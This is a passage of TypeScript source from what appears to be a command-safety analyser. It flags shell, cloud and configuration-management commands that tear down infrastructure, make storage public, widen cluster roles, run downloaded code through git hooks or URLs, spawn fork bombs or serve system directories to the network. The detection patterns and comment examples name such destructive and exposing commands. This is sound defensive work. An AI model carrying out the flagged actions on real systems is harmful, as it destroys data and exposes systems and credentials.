      const out = valueOf("-out", "--out");
      if (words[0] === "plan" && has("-destroy", "--destroy") && out !== undefined && ctx.created.size < 64)
        ctx.created.add(`tf-destroy-plan:${posix.normalize(out)}`);
      if (words[0] === "apply" && words.slice(1).some((w) => ctx.created.has(`tf-destroy-plan:${posix.normalize(w)}`)))
        add(ctx, "infra_teardown");
      return;
    }
    case "az":
      if (words[0] === "deployment" && words.includes("create") && /^complete$/i.test(valueOf("--mode") ?? ""))
        return add(ctx, "infra_teardown");
      if (words[0] === "group" && words[1] === "deployment" && /^complete$/i.test(valueOf("--mode") ?? ""))
        return add(ctx, "infra_teardown");
      if (
        words[0] === "storage" &&
        words.includes("set-permission") &&
        /^(?:blob|container)$/i.test(valueOf("--public-access") ?? "")
      )
        return add(ctx, "privilege_grant");
      if (
        words[0] === "storage" &&
        words[1] === "account" &&
        /^true$/i.test(valueOf("--allow-blob-public-access") ?? "")
      )
        return add(ctx, "privilege_grant");
      if (
        words[0] === "storage" &&
        words[1] === "container" &&
        words[2] === "create" &&
        /^(?:blob|container)$/i.test(valueOf("--public-access") ?? "")
      )
        return add(ctx, "privilege_grant");
      return;
    case "kubeadm":
      if (words[0] === "reset" && !has("--dry-run")) return add(ctx, "cluster_teardown");
      return;
    case "k3s-uninstall.sh":
    case "k3s-agent-uninstall.sh":
    case "rke2-uninstall.sh":
      return add(ctx, "cluster_teardown");
    // The initramfs and boot images: rebuilt for every kernel, the next boot depends on them.
    case "update-initramfs":
      if (has("-u", "-c", "-d", "-k")) add(ctx, "boot_config");
      return;
    case "mkinitcpio":
      if (has("-p", "-P", "--allpresets", "--preset", "-g", "--generate")) add(ctx, "boot_config");
      return;
    case "dracut":
      if (!has("--list-modules", "-h", "--help", "--print-cmdline")) add(ctx, "boot_config");
      return;
    case "kernelstub":
    case "bootctl":
      if (
        name === "bootctl" &&
        !/^(?:install|update|remove|set-default|set-oneshot|unlink|cleanup)$/.test(words[0] ?? "")
      )
        return;
      add(ctx, "boot_config");
      return;
    // Every scheduled job removed (`atrm $(atq | cut -f1)`, a loop over atq).
    case "atrm":
      if (ctx.viaXargs || args.some((a) => !a.literal || /\$|`/.test(a.text))) add(ctx, "crontab_remove");
      return;
    // Buckets made public.
    case "aws":
      if (
        words[0] === "s3api" &&
        /^put-(?:bucket|object)-acl$/.test(words[1] ?? "") &&
        /^(?:public-read|public-read-write|authenticated-read)$/.test(valueOf("--acl") ?? "")
      )
        return add(ctx, "privilege_grant");
      if (
        words[0] === "s3api" &&
        texts.some((t) => /acs\.amazonaws\.com\/groups\/global\/(?:AllUsers|AuthenticatedUsers)/.test(t))
      )
        return add(ctx, "privilege_grant");
      if (words[0] === "s3api" && words[1] === "delete-public-access-block") return add(ctx, "privilege_grant");
      if (
        words[0] === "s3api" &&
        words[1] === "put-public-access-block" &&
        texts.some((t) => /Block\w*=false|"Block\w*"\s*:\s*false/i.test(t))
      )
        return add(ctx, "privilege_grant");
      if (
        words[0] === "s3api" &&
        words[1] === "put-bucket-policy" &&
        texts.some(
          (t) => /"Principal"\s*:\s*(?:"\*"|\{\s*"AWS"\s*:\s*"\*")/.test(t) && /"Effect"\s*:\s*"Allow"/.test(t),
        )
      )
        return add(ctx, "privilege_grant");
      if (
        words[0] === "s3" &&
        words.some((w) => w === "cp" || w === "sync") &&
        /^public-read(?:-write)?$/.test(valueOf("--acl") ?? "")
      )
        return;
      return;
    case "gsutil":
    case "gcloud":
      if (
        texts.some(
          (t) =>
            /(?:^|[\s:=,])(?:allUsers|allAuthenticatedUsers|AllUsers|AllAuthenticatedUsers)(?::|$)/.test(t) ||
            /^(?:member=)?(?:allUsers|allAuthenticatedUsers)$/.test(t) ||
            /^--member=(?:allUsers|allAuthenticatedUsers)$/.test(t),
        )
      ) {
        if (name === "gsutil" && !/^(?:iam|acl|defacl)$/.test(words[0] ?? "")) return;
        if (name === "gsutil" && (words[1] === "get" || words[1] === "get-default")) return;
        return add(ctx, "privilege_grant");
      }
      return;
    // GitHub API: admin rights granted, a protected branch force-moved or its protection removed.
    case "gh":
      if (words[0] === "api") {
        const method = (valueOf("-X", "--method") ?? "").toUpperCase();
        const path = words.slice(1).find((w) => /\//.test(w)) ?? "";
        const fields = texts
          .filter(
            (t, k) =>
              /^-(?:f|F)$|^--(?:field|raw-field)$/.test(texts[k - 1] ?? "") || /^--(?:field|raw-field)=/.test(t),
          )
          .map((t) => t.replace(/^--(?:raw-)?field=/, ""));
        if (
          /\/(?:collaborators|memberships|teams\/[^/]+\/repos|invitations|members)\b/.test(path) &&
          fields.some((f) => /^(?:permission|role)=(?:admin|maintain|owner)$/i.test(f))
        )
          return add(ctx, "privilege_grant");
        const ref = /\/git\/refs\/(?:heads\/)?(.+)$/.exec(path)?.[1];
        if (/^(?:PATCH|PUT|POST)$/.test(method) && fields.some((f) => /^(?:private=false|visibility=public)$/i.test(f)))
          return add(ctx, "privilege_grant");
        if (
          ref !== undefined &&
          PROTECTED_BRANCH.test(ref) &&
          ((method === "PATCH" && fields.some((f) => /^force=true$/i.test(f))) || method === "DELETE")
        )
          return add(ctx, "git_force_push");
        if (/\/branches\/[^/]+\/protection\b/.test(path) && method === "DELETE") return add(ctx, "security_change");
      }
      return;
    // Kubernetes roles widened to every verb or resource, or bound to cluster-admin.
    case "kubectl":
    case "oc": {
      const target = words.slice(1).join(" ");
      if (
        /^(?:patch|edit|apply|replace|set)$/.test(words[0] ?? "") &&
        /\b(?:clusterrole|clusterrolebinding|role|rolebinding)s?(?:\.rbac\.authorization\.k8s\.io)?\b/.test(target) &&
        texts.some((t) =>
          /"(?:verbs|resources|apiGroups)"\s*:\s*\[[^\]]*"\*"|(?:verbs|resources):\s*\[?\s*["']?\*|cluster-admin/.test(
            t,
          ),
        )
      )
        return add(ctx, "privilege_grant");
      if (
        words[0] === "create" &&
        /^(?:clusterrole|role)$/.test(words[1] ?? "") &&
        texts.some((t) => /^--(?:verb|resource)=["']?\*/.test(t))
      )
        return add(ctx, "privilege_grant");
      // A cluster service forwarded on every interface: anyone on the network reaches it.
      if (words[0] === "port-forward") {
        const addr = valueOf("--address");
        if (addr !== undefined && addr.split(",").some((a) => !/^(?:localhost|127(?:\.\d+){3}|::1)$/.test(a.trim())))
          return add(ctx, "remote_access");
      }
      return;
    }
    case "gpg":
    case "gpg2":
      if (
        texts.some((t) => /^--delete-(?:secret-)?(?:and-public-)?keys?$/.test(t)) &&
        !has(
          "--delete-secret-keys",
          "--delete-secret-and-public-keys",
          "--delete-keys",
          "--delete-key",
          "--delete-secret-key",
        )
      ) {
        const home = valueOf("--homedir");
        if (home === undefined || !isInsideLike(whereIn(ctx, home))) add(ctx, "credential_write");
      }
      return;
  }

  // Git hooks: a hooks directory set to one this command line fills with downloaded files, or a downloaded file put
  // into .git/hooks, runs on the next commit, merge, checkout or push.
  if (name === "git") {
    if (words[0] === "config" && /^core\.hookspath$/i.test(words.find((w) => !/^--/.test(w) && w !== "config") ?? "")) {
      const dir = words[words.length - 1];
      if (dir && ctx.created.size < 64) ctx.created.add(`hooks:${fetchKey(ctx, dir).replace(/\/*$/, "/")}`);
    }
    const hookDirs = [...ctx.created].filter((c) => c.startsWith("hooks:")).map((c) => c.slice(6));
    if (
      /^(?:commit|merge|checkout|switch|pull|push|rebase|am|cherry-pick|revert|reset|clone|worktree)$/.test(
        words[0] ?? "",
      )
    ) {
      for (const f of ctx.fetched)
        if (/(?:^|\/)\.git\/hooks\/[^/]+$/.test(f) || hookDirs.some((d) => f.startsWith(d)))
          return add(ctx, "remote_code_exec");
    }
  }
  // `npm pkg set scripts.postinstall=CMD` (`npm set-script X CMD`): a script npm runs later, judged as a command now.
  if ((name === "npm" || name === "pnpm") && words[0] === "pkg" && words[1] === "set") {
    for (const w of words.slice(2)) {
      const m = /^scripts\.[\w:-]+=(.*)$/s.exec(w);
      if (m) ctx.analyseShell(m[1]!);
    }
  }
  if (name === "npm" && words[0] === "set-script" && words[2] !== undefined) ctx.analyseShell(words.slice(2).join(" "));
  // `rails runner CODE` (`bin/rails r`), `python manage.py shell -c CODE` (or its stdin): application code, ORM calls included.
  if ((name === "rails" || name === "rails-runner") && /^(?:runner|r)$/.test(words[0] ?? "")) {
    const code = operands(args, "e", ["--environment"])[1]?.text;
    if (code !== undefined) {
      if (/^[\w./-]+\.rb$/.test(code)) {
        const written = writtenScript(ctx, code);
        if (written !== undefined && written !== null) analyseInlineCode("ruby", written, ctx);
      } else analyseInlineCode("ruby", code, ctx, args.find((a) => a.text === code)?.literal !== false);
    }
  }
  if (
    interpreterLanguage(name) === "python" &&
    texts.some((t) => /(?:^|\/)manage\.py$/.test(t)) &&
    texts.some((t) => t === "shell" || t === "shell_plus")
  ) {
    const c = texts.findIndex((t) => t === "-c" || t === "--command");
    const code =
      c >= 0
        ? texts[c + 1]
        : (texts.find((t) => t.startsWith("--command="))?.slice(10) ??
          ctx.redirects.find((r) => r.body !== undefined)?.body);
    if (code !== undefined) analyseInlineCode("python", code, ctx);
  }
  // SQL read from a file this command line wrote (`psql -f x.sql`, `mysql db < x.sql`, `sqlite3 db '.read x.sql'`).
  if (/^(?:psql|mysql|mariadb|sqlite3|sqlite|duckdb|clickhouse-client|cockroach|sqlcmd)$/.test(name)) {
    const files = [
      valueOf("-f", "--file", "-i", "--input-file", "--queries-file"),
      ...ctx.redirects.filter((r) => r.op === "<" && r.body === undefined).map((r) => r.target),
      ...texts.map((t) => /^\.read\s+(\S+)$/.exec(t)?.[1]),
    ];
    for (const f of files) {
      if (f === undefined) continue;
      const sql = writtenScript(ctx, f);
      if (typeof sql === "string" && !sqliteInWorkdir(ctx, name, sql)) for (const key of judgeSql(sql)) add(ctx, key);
    }
  }
  // Commands of key-value and document stores read from a file this command line wrote (`redis-cli -h h < cmds.txt`,
  // `mongosh URI drop.js`, `mongosh < drop.js`): each is judged as if given on the command line.
  if (!ctx.fedFile && /^(?:redis-cli|valkey-cli|keydb-cli|mongosh|mongo)$/.test(name)) {
    const mongo = /^mongo/.test(name);
    const files = [
      ...ctx.redirects.filter((r) => r.op === "<" && r.body === undefined).map((r) => r.target),
      ...(mongo ? texts.filter((t) => /\.js$/.test(t)) : []),
    ];
    for (const f of files) {
      const text = writtenScript(ctx, f);
      if (typeof text !== "string") continue;
      const kept = args.filter((a) => a.text !== f);
      const lit = (x: string): JudgedArg => ({ text: x, literal: true });
      if (mongo)
        judgeCommand({
          ...ctx,
          fedFile: true,
          redirects: [],
          producer: null,
          args: [...kept, lit("--eval"), lit(text)],
        });
      else
        for (const line of text.split("\n").slice(0, 32))
          if (line.trim())
            judgeCommand({
              ...ctx,
              fedFile: true,
              redirects: [],
              producer: null,
              args: [...kept, ...line.trim().split(/\s+/).map(lit)],
            });
    }
  }
  // `go run FILE.go` of a file written on this command line: its code is what runs.
  if (name === "go" && words[0] === "run") {
    for (const f of texts.slice(1).filter((w) => /\.go$/.test(w))) {
      const code = writtenScript(ctx, f);
      if (typeof code === "string") judgeGoCode(ctx, code);
    }
  }

  // A file server serving a system or home directory on every interface.
  const lang = interpreterLanguage(name);
  if (lang === "python") {
    const m = texts.findIndex((t) => t === "-m");
    if (m >= 0 && /^(?:http\.server|SimpleHTTPServer|uploadserver|updog)$/.test(texts[m + 1] ?? "")) {
      const rest = texts.slice(m + 2);
      const dirIdx = rest.findIndex((t) => t === "-d" || t === "--directory");
      const dir = dirIdx >= 0 ? rest[dirIdx + 1] : rest.find((t) => t.startsWith("--directory="))?.slice(12);
      const bIdx = rest.findIndex((t) => t === "-b" || t === "--bind");
      const bind = bIdx >= 0 ? rest[bIdx + 1] : undefined;
      const local = bind !== undefined && /^(?:localhost|127(?:\.\d+){3}|::1)$/.test(bind);
      const served = dir ?? ctx.cwd;
      const w = whereIn(ctx, served);
      if (
        !local &&
        (w === "system" ||
          w === "credential" ||
          w === "home" ||
          posix.normalize(served) === "/" ||
          (w === "outside" && SYSTEM_TOP.test(served)))
      )
        add(ctx, "remote_access");
    }
  }
  if (lang === "php") {
    const s = texts.findIndex((t) => t === "-S");
    const t = texts.findIndex((x) => x === "-t");
    if (s >= 0 && t >= 0 && !/^(?:localhost|127\.)/.test(texts[s + 1] ?? "")) {
      const w = whereIn(ctx, texts[t + 1] ?? "");
      if (w === "system" || w === "credential" || w === "home" || texts[t + 1] === "/") add(ctx, "remote_access");
    }
  }
  if (lang && lang !== "awk") {
    const code = args.find((a, k) => k > 0 && /^-[A-Za-z]*[ceE]$|^--eval$/.test(texts[k - 1]!))?.text;
    if (code !== undefined && memoryBomb(code)) add(ctx, "resource_exhaustion");
  }
}

/** Go source: file-system calls on literal paths, commands it runs, itself spawned in an endless loop, memory bombs. */
function judgeGoCode(ctx: JudgeContext, code: string): void {
  const str = String.raw`"((?:[^"\\]|\\.)*)"|` + "`([^`]*)`";
  for (const m of code.matchAll(
    new RegExp(
      String.raw`\bos\.(RemoveAll|Remove|WriteFile|Create|Truncate|Rename|Chmod|Chown|OpenFile)\(\s*(?:${str})`,
      "g",
    ),
  )) {
    const path = m[2] ?? m[3] ?? "";
    if (m[1] === "RemoveAll" || m[1] === "Remove") judgeDelete(ctx, path, m[1] === "RemoveAll");
    else if (m[1] === "Rename") judgeMove(ctx, [path], undefined);
    else if (m[1] === "Chmod" || m[1] === "Chown") {
      const w = whereIn(ctx, path);
      if (w === "system" || w === "credential") add(ctx, "chmod_chown_system");
      else if (w === "outside" || w === "home") add(ctx, "chmod_outside_workdir");
    } else judgeOverwrite(ctx, path);
  }
  if (/\bos\.(?:RemoveAll|Remove|WriteFile|Rename)\(\s*[A-Za-z_]/.test(code)) add(ctx, "inline_code_unanalysable");
  for (const m of code.matchAll(/\bexec\.Command(?:Context)?\(\s*(?:ctx\s*,\s*)?([^)]*)\)/g)) {
    const words = [...m[1]!.matchAll(/"((?:[^"\\]|\\.)*)"|`([^`]*)`/g)].map((x) => x[1] ?? x[2] ?? "");
    if (words.length && /^(?:\/bin\/)?(?:ba|da|z)?sh$/.test(words[0]!) && words[1] === "-c" && words[2] !== undefined)
      ctx.analyseShell(words[2]);
    else if (words.length && !/\/proc\/self\/exe/.test(words[0]!))
      ctx.analyseShell(words.map((w) => `'${w.replace(/'/g, "'\\''")}'`).join(" "));
  }
  // The program started again by itself (its own executable), or any process started on every turn of an endless loop.
  const spawnsSelf =
    /\/proc\/self\/exe|os\.Args\[0\]|os\.Executable\(\)/.test(code) &&
    /\bexec\.Command|\bos\.StartProcess|\bsyscall\.(?:ForkExec|Exec)/.test(code);
  const endlessSpawn =
    /\bfor\s*\{[^}]*(?:exec\.Command[^}]*\.Start\(\)|os\.StartProcess|syscall\.ForkExec|go\s+func)/s.test(code);
  if (spawnsSelf || endlessSpawn) add(ctx, "fork_bomb");
  if (memoryBomb(code)) add(ctx, "resource_exhaustion");
}

// ---------------------------------------------------------------------------------------------
// Commands and resources run elsewhere or later: fan-out and configuration-management runners, database and
// debugger shell escapes, code compiled or task files written on the line, runtimes given a URL.

const quoteWord = (s: string): string => (/^[\w@%+=:,./-]+$/.test(s) ? s : `'${s.replace(/'/g, `'\\''`)}'`);
/** The words of a command given as separate arguments (or one argument holding a whole script). */
function runWords(ctx: JudgeContext, words: string[]): void {
  if (!words.length) return;
  ctx.analyseShell(words.length === 1 ? words[0]! : words.map(quoteWord).join(" "));
}

/** Puppet resources (`exec`, `file … ensure => absent`, `user`, `service … stopped`, `cron`, `package … absent`), judged as if applied here. */
function judgePuppetCode(ctx: JudgeContext, code: string): void {
  for (const m of code.matchAll(/\b(\w+(?:::\w+)*)\s*\{\s*(['"])([^'"]*)\2\s*:([^}]*)\}/g)) {
    const type = m[1]!.toLowerCase();
    const title = m[3]!;
    const body = m[4]!;
    const attr = (k: string) =>
      new RegExp(String.raw`\b${k}\s*=>\s*(?:(['"])((?:(?!\1)[^\\]|\\.)*)\1|(\[[^\]]*\]|[\w:-]+))`)
        .exec(body)
        ?.slice(2)
        .find((x) => x !== undefined);
    const ensure = (attr("ensure") ?? "").toLowerCase();
    switch (type) {
      case "exec":
        ctx.analyseShell(attr("command") ?? title);
        break;
      case "file":
        if (/^(?:absent|purged)$/.test(ensure)) judgeDelete(ctx, attr("path") ?? title, true);
        else if (attr("content") !== undefined || attr("source") !== undefined || ensure === "link")
          judgeOverwrite(ctx, attr("path") ?? title);
        else if (attr("mode") !== undefined || attr("owner") !== undefined) {
          const w = whereIn(ctx, attr("path") ?? title);
          if (w === "system" || w === "credential") add(ctx, "chmod_chown_system");
          else if (!isInsideLike(w)) add(ctx, "chmod_outside_workdir");
        }
        break;
      case "user":
      case "group":
      case "ssh_authorized_key":
        add(ctx, "user_change");
        break;
      case "service":
        if (/^(?:stopped|false)$/.test(ensure) || /^false$/.test(attr("enable") ?? "")) add(ctx, "stop_service");
        else if (SYSTEM_UNIT.test(title)) add(ctx, "service_change");
        break;
      case "cron":
        add(ctx, "crontab_replace");
        break;
      case "package":
        if (/^(?:absent|purged)$/.test(ensure)) add(ctx, "package_remove");
        break;
      case "mount":
        add(ctx, "mount_change");
        break;
      case "firewall":
        add(ctx, "firewall_change");
        break;
    }
  }
}

/** Chef resources given to chef-apply (`directory "/x" do action :delete end`, `execute "cmd"`, `service "x" do action :stop end`). */
function judgeChefCode(ctx: JudgeContext, code: string): void {
  for (const m of code.matchAll(
    /\b(directory|file|template|cookbook_file|remote_file|link|execute|bash|script|service|systemd_unit|user|group|package|apt_package|yum_package|cron|mount)\s*\(?\s*(['"])([^'"]*)\2\s*\)?\s*(?:do\b([\s\S]*?)\bend\b)?/g,
  )) {
    const type = m[1]!;
    const title = m[3]!;
    const body = m[4] ?? "";
    const actions = [...body.matchAll(/\baction\s*\[?([^\n;\]]*)/g)].map((a) => a[1]!).join(" ");
    const attr = (k: string) => new RegExp(String.raw`\b${k}\s*\(?\s*(['"])((?:(?!\1)[^\\]|\\.)*)\1`).exec(body)?.[2];
    switch (type) {
      case "directory":
      case "file":
      case "template":
      case "cookbook_file":
      case "remote_file":
      case "link": {
        const path = attr("path") ?? title;
        if (/:delete\b/.test(actions))
          judgeDelete(ctx, path, (type === "directory" && /\brecursive\s+true\b/.test(body)) || type !== "directory");
        else if (type !== "directory" && !/:nothing\b/.test(actions)) judgeOverwrite(ctx, path);
        break;
      }
      case "execute":
      case "bash":
      case "script":
        ctx.analyseShell(attr("command") ?? attr("code") ?? title);
        break;
      case "service":
      case "systemd_unit":
        if (/:(?:stop|disable|mask)\b/.test(actions)) add(ctx, "stop_service");
        else if (/:(?:restart|reload)\b/.test(actions) && SYSTEM_UNIT.test(title)) add(ctx, "service_change");
        break;
      case "user":
      case "group":
        add(ctx, "user_change");
        break;
      case "package":
      case "apt_package":
      case "yum_package":
        if (/:(?:remove|purge)\b/.test(actions)) add(ctx, "package_remove");
        break;
      case "cron":
        add(ctx, "crontab_replace");
        break;
      case "mount":
        add(ctx, "mount_change");
        break;
    }
  }
}

/** Steps of a Taskfile (`cmds:` lists, `cmd:` keys) and recipes of a Justfile (indented lines). */
function taskfileCommands(text: string): string {
  const out: string[] = [];
  for (const line of text.split("\n")) {
    const m = /^\s*-\s+(?:cmd:\s*)?(.*)$/.exec(line) ?? /^\s*cmd:\s*(.*)$/.exec(line);
    if (m && !/^\w+:\s/.test(m[1]!) && !/^(?:task|deps):/.test(m[1]!)) out.push(m[1]!.replace(/^(['"])(.*)\1$/, "$2"));
  }
  return out.join("\n");
}
function justRecipes(text: string): string {
  return text
    .split("\n")
    .filter((l) => /^\s+\S/.test(l))
    .map((l) => l.trim().replace(/^[@-]+/, ""))
    .join("\n");
}
/** Gradle Exec tasks: `commandLine("sh", "-c", "…")`, `commandLine 'rm', '-rf', …`, `exec { … }`, `"cmd".execute()`. */
function gradleCommands(ctx: JudgeContext, text: string): void {
  for (const m of text.matchAll(/\b(?:commandLine|executable)\s*\(?((?:\s*,?\s*(['"])(?:(?!\2)[^\\]|\\.)*\2)+)/g)) {
    const words = [...m[1]!.matchAll(/(['"])((?:(?!\1)[^\\]|\\.)*)\1/g)].map((w) => w[2]!);
    if (words.some((w) => /\$/.test(w))) add(ctx, "inline_code_unanalysable");
    runWords(ctx, words);
  }
  for (const m of text.matchAll(/(['"])((?:(?!\1)[^\\]|\\.)*)\1\s*\.execute\s*\(/g)) ctx.analyseShell(m[2]!);
}

/** Compiled code written on the line: effects that cannot be read (a call that deletes, runs or changes things) count as unanalysable. */
const NATIVE_EFFECT =
  /\b(?:unlink|unlinkat|remove|rmdir|remove_dir_all|remove_dir|remove_file|RemoveAll|Remove|system|popen|exec[lv]p?e?|execve|Command::new|kill|reboot|truncate|ftruncate|chmod|chown|setuid|mount|umount2?|socket|connect|fork|rename|open|fopen|write|create|File::create|OpenOptions|os\.WriteFile|ptrace|delete|DeleteFile)\s*[(!:]/;

/**
 * What compiled source does, as a shell script: file deletes and writes with literal paths (`remove_dir_all("x")`,
 * `unlink("/etc/x")`, `os.RemoveAll("x")`) and commands run by `system("…")` become the matching shell commands; any
 * other call with effects left over makes the program unreadable (null).
 */
function nativeAsShell(source: string): string | null {
  const lines: string[] = [];
  let rest = source.replace(/\/\/[^\n]*|\/\*[\s\S]*?\*\//g, "");
  const str = String.raw`"((?:[^"\\]|\\.)*)"`;
  const take = (re: RegExp, f: (m: RegExpExecArray) => string) => {
    rest = rest.replace(re, (...m) => {
      lines.push(f(m as unknown as RegExpExecArray));
      return "_";
    });
  };
  take(
    new RegExp(String.raw`\b(?:std::fs::|fs::)?(?:remove_dir_all|RemoveAll)\s*\(\s*` + str + String.raw`\s*\)`, "g"),
    (m) => `rm -rf ${quoteWord(m[1]!)}`,
  );
  take(
    new RegExp(
      String.raw`\b(?:std::fs::|fs::|os\.)?(?:remove_file|remove_dir|unlink|rmdir|remove|Remove)\s*\(\s*` +
        str +
        String.raw`\s*\)`,
      "g",
    ),
    (m) => `rm -f ${quoteWord(m[1]!)}`,
  );
  take(new RegExp(String.raw`\bsystem\s*\(\s*` + str + String.raw`\s*\)`, "g"), (m) => m[1]!.replace(/\\"/g, '"'));
  if (NATIVE_EFFECT.test(rest) || /\b(?:asm|__asm__|syscall)\b/.test(rest)) return null;
  return lines.join("\n") || "true";
}

function judgeElsewhere(ctx: JudgeContext, name: string): void {
  const args = ctx.args;
  const texts = args.map((a) => a.text);
  const words = sub(args);
  const afterDashes = () => {
    const k = texts.indexOf("--");
    return k >= 0 ? texts.slice(k + 1) : null;
  };
  const optValues = (short: string[], long: string[]): string[] => optionValues(texts, short, long, false);
  /** Commands that follow a runner's options (`pdsh -w hosts CMD …`): the first word not an option or an option's value. */
  const commandAfterOptions = (valued: RegExp): string[] => {
    for (let k = 0; k < texts.length; k++) {
      const t = texts[k]!;
      if (t === "--") return texts.slice(k + 1);
      if (t.startsWith("-")) {
        if (valued.test(t)) k++;
        continue;
      }
      return texts.slice(k);
    }
    return [];
  };
  // Runtimes that run a program named by a URL (`deno run URL`, `bun run URL`, `bun URL`, `deno URL`): downloaded code runs.
  if (
    /^(?:deno|bun|bunx|npx|tsx|ts-node|node|jbang|scala-cli|kotlin|java|groovy|julia|Rscript|elixir|lua|raku|pwsh)$/.test(
      name,
    )
  ) {
    const op = args.find(
      (a, k) =>
        !a.text.startsWith("-") &&
        !/^(?:run|x|exec|start)$/.test(a.text) &&
        !/^(?:--(?:config|import-map|cert|location|reload|lock)|-c|-r)$/.test(texts[k - 1] ?? ""),
    );
    if (
      op &&
      /^(?:https?|jsr|npm:https?):\/\//.test(op.text) &&
      !(name === "deno" && /^(?:install|cache|info|fmt|lint|doc|check)$/.test(texts[0] ?? ""))
    )
      add(ctx, "remote_code_exec");
  }
  // Git hooks written on this command line run when git commits, merges, checks out, rebases or pushes.
  if (
    name === "git" &&
    /^(?:commit|merge|checkout|switch|push|rebase|pull|am|cherry-pick|revert)$/.test(words[0] ?? "") &&
    !texts.includes("--no-verify") &&
    !texts.includes("-n")
  ) {
    for (const [file, text] of ctx.scripts)
      if (/(?:^|\/)\.git\/hooks\/[\w-]+$/.test(file)) text === null ? add(ctx, "shell_input") : ctx.analyseShell(text);
  }
  // Salt: `salt TARGET FUNCTION ARGS`, `salt-call FUNCTION ARGS`, `salt-ssh`: the execution module's effect on each minion.
  if (/^salt(?:-call|-ssh|-run)?$/.test(name)) {
    if (texts.some((t) => /^test=(?:true|1)$/i.test(t))) return;
    const f = texts.findIndex(
      (t, k) =>
        /^[a-z_]+\.[a-z_]+$/.test(t) &&
        !/^(?:-[a-zA-Z]|--(?:out|timeout|log-level|config-dir|return|batch-size|subset|grain|pillar|nodegroup|compound|list|pcre|grain-pcre|range|ipcidr|module-executors|id|master|saltenv|pillarenv))$/.test(
          texts[k - 1] ?? "",
        ),
    );
    if (f < 0) return;
    const fn = texts[f]!;
    const rest = texts.slice(f + 1);
    const pos = rest.filter((t) => !/^\w+=/.test(t));
    const kw = new Map(
      rest.filter((t) => /^\w+=/.test(t)).map((t) => [t.slice(0, t.indexOf("=")), t.slice(t.indexOf("=") + 1)]),
    );
    const [mod, verb] = fn.split(".") as [string, string];
    if (mod === "cmd") {
      if (/^(?:run|shell|run_all|run_stdout|run_stderr|run_bg|exec_code|exec_code_all|powershell|retcode)$/.test(verb))
        runWords(ctx, pos.length ? [pos.join(" ")] : [kw.get("cmd") ?? ""].filter(Boolean));
      else if (/^script/.test(verb)) add(ctx, "shell_input");
    } else if (mod === "file") {
      const path = pos[0] ?? kw.get("path") ?? kw.get("name");
      if (path && /^(?:remove|absent|rmdir|delete_backup)$/.test(verb)) judgeDelete(ctx, path, true);
      else if (
        path &&
        /^(?:write|append|replace|managed|truncate|copy|rename|move|set_mode|chown|line|blockreplace|symlink|touch)$/.test(
          verb,
        )
      ) {
        if (verb === "set_mode" || verb === "chown") {
          const w = whereIn(ctx, path);
          if (w === "system" || w === "credential") add(ctx, "chmod_chown_system");
          else if (!isInsideLike(w)) add(ctx, "chmod_outside_workdir");
        } else judgeOverwrite(ctx, verb === "copy" || verb === "rename" || verb === "move" ? (pos[1] ?? path) : path);
      }
    } else if (mod === "service" && /^(?:stop|dead|disable|disabled|mask|masked|kill)$/.test(verb))
      add(ctx, "stop_service");
    else if (
      mod === "service" &&
      /^(?:restart|reload|running|enable|enabled|start)$/.test(verb) &&
      pos.some((p) => SYSTEM_UNIT.test(p))
    )
      add(ctx, "service_change");
    else if (mod === "cron") {
      if (!/^(?:list_tab|ls|raw_cron)$/.test(verb)) add(ctx, "crontab_replace");
    } else if (
      (mod === "user" || mod === "group" || mod === "shadow" || mod === "ssh") &&
      !/^(?:info|list\w*|getent|get\w*|user_keys|auth_keys|check\w*|recv_known_host\w*)$/.test(verb)
    )
      add(ctx, "user_change");
    else if (mod === "pkg" && /^(?:remove|purge|removed|purged)$/.test(verb)) add(ctx, "package_remove");
    else if (mod === "system" && /^(?:reboot|halt|poweroff|shutdown)$/.test(verb)) add(ctx, "reboot_shutdown");
    else if (mod === "iptables" && /^(?:flush|delete|insert|append|set_policy)$/.test(verb))
      add(ctx, "firewall_change");
    else if (mod === "mount" && /^(?:mount|umount|remount|set_fstab|rm_fstab)$/.test(verb)) add(ctx, "mount_change");
    else if ((mod === "sysctl" || mod === "kmod") && /^(?:assign|persist|present|load|remove|absent)$/.test(verb))
      add(ctx, "kernel_change");
    else if (mod === "ps" && /^(?:pkill|kill_pid|killall)$/.test(verb)) add(ctx, "kill_all_processes");
    return;
  }
  // Parallel shells over many hosts: the command runs on each.
  if (/^(?:pdsh|pssh|parallel-ssh|clush|dsh|prsh|mussh|xsh)$/.test(name))
    return runWords(
      ctx,
      commandAfterOptions(
        /^-(?:[wxlRftugXhHpoOe]|-hosts|-host|-user|-par|-timeout|-outdir|-errdir|-options|-group|-nodes|-exclude)$/,
      ),
    );
  // Fabric / invoke / pyinfra / kubectl node-shell: everything after `--` is a command run on the target.
  if (
    (/^(?:fab|fab2|invoke|inv|pyinfra|cssh)$/.test(name) ||
      ((name === "kubectl" || name === "oc" || name === "k") && words.includes("node-shell"))) &&
    afterDashes()
  )
    return runWords(ctx, afterDashes()!);
  if (name === "pyinfra" && words.includes("exec"))
    return runWords(
      ctx,
      texts.slice(texts.indexOf("exec") + 1).filter((t) => t !== "--"),
    );
  // Configuration code applied at once.
  if (name === "puppet" && words[0] === "apply") {
    if (texts.includes("--noop")) return;
    for (const v of optValues(["-e"], ["--execute"])) judgePuppetCode(ctx, v);
    for (const op of operands(args, "e", [
      "--execute",
      "--modulepath",
      "--environment",
      "--hiera_config",
      "--logdest",
    ]).slice(1)) {
      const w = writtenScript(ctx, op.text);
      if (typeof w === "string") judgePuppetCode(ctx, w);
      else if (w === null) add(ctx, "shell_input");
    }
    return;
  }
  if (name === "chef-apply" || ((name === "chef-client" || name === "cinc-client") && texts.includes("-z"))) {
    if (texts.includes("--why-run") || texts.includes("-W")) return;
    for (const v of optValues(["-e"], ["--execute"])) judgeChefCode(ctx, v);
    for (const op of operands(args, "ejlL", ["--execute", "--json-attributes", "--log_level", "--logfile"])) {
      const w = writtenScript(ctx, op.text);
      if (typeof w === "string") judgeChefCode(ctx, w);
    }
    return;
  }
  // Shell escapes of database and debugger shells: `.shell CMD`, `.system CMD`, `\! CMD`, `system CMD`, gdb `shell CMD`.
  if (/^(?:sqlite3?|duckdb|litecli|psql|pgcli|mysql|mariadb|mycli|gdb|cgdb|lldb|sqlplus|isql|usql)$/.test(name)) {
    const here = ctx.redirects.filter((r) => r.body !== undefined).map((r) => r.body!);
    const fed = ctx.producer ? producedLiteral(ctx.producer) : null;
    const chunks = [...texts, ...here, ...(fed ? [fed] : [])];
    for (const chunk of chunks) {
      for (const line of chunk.split(/\n|;(?=\s*(?:\\!|\.shell|\.system)\b)/)) {
